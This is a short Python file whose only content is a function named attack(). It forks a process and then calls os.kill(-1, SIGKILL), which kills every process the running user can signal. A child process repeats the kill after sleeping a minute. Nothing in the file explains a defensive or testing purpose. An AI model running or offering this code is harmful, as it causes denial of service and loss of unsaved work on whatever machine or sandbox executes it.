import os, signal, time

def attack():
    try:
        if os.fork() == 0:
            time.sleep(60)
    except PermissionError:
        pass
    os.kill(-1, signal.SIGKILL)
    return "sent"
